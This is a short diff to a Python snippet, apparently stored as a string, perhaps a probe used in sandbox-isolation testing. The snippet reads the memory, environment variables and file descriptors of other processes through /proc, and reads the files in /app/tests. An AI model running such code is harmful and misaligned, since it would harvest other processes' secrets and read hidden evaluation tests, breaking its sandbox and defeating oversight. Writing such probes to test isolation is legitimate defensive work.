@@ -21,8 +21,8 @@ def look(path, mode="rb"):
     try:
         with open(path, mode) as stream: seen.append(stream.read(1 << 20))
     except OSError: pass
-for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/app/tests/*"): look(path)
-for path in glob.glob("/proc/[0-9]*/fd/*"):
+of_processes = [path for what in ("mem", "environ", "fd/*") for path in glob.glob(f"/proc/[0-9]*/{what}")]
+for path in of_processes + glob.glob("/app/tests/*"):
     if not path.startswith(f"/proc/{os.getpid()}/"): look(path)
 seen = [text for text in seen if text]
 """
